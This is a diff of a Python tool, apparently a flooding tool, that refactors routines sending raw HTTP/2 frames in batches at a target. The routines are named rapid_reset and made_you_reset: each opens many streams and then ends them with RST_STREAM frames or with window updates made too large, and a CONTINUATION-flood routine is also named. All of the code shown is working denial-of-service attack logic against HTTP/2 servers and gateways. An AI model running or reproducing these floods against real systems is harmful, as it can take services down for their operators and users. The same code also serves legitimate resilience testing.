@@ -281,28 +281,26 @@ def frames(
     return sent
 
 
-def rapid_reset(target: Target, end: float) -> int:
+def ended_streams(target: Target, end: float, kind: int, value: bytes) -> int:
+    """Twenty requests in a batch, each ended by one more frame of its stream."""
+
     def batch(number: int) -> bytes:
         streams = range(number * 40 + 1, number * 40 + 41, 2)
         return b"".join(
-            frame(1, 4, s, BLOCK) + frame(0, 1, s, BODY) + frame(3, 0, s, b"\0\0\0\x08")
+            frame(1, 4, s, BLOCK) + frame(0, 1, s, BODY) + frame(kind, 0, s, value)
             for s in streams
         )
 
     return frames(target, end, batch)
+
+
+def rapid_reset(target: Target, end: float) -> int:
+    return ended_streams(target, end, 3, b"\0\0\0\x08")
 
 
 def made_you_reset(target: Target, end: float) -> int:
     """The gateway itself has to reset each: its window is made too large."""
-
-    def batch(number: int) -> bytes:
-        streams = range(number * 40 + 1, number * 40 + 41, 2)
-        return b"".join(
-            frame(1, 4, s, BLOCK) + frame(0, 1, s, BODY) + frame(8, 0, s, b"\x7f\xff\xff\xff")
-            for s in streams
-        )
-
-    return frames(target, end, batch)
+    return ended_streams(target, end, 8, b"\x7f\xff\xff\xff")
 
 
 def continuations(target: Target, end: float) -> int:
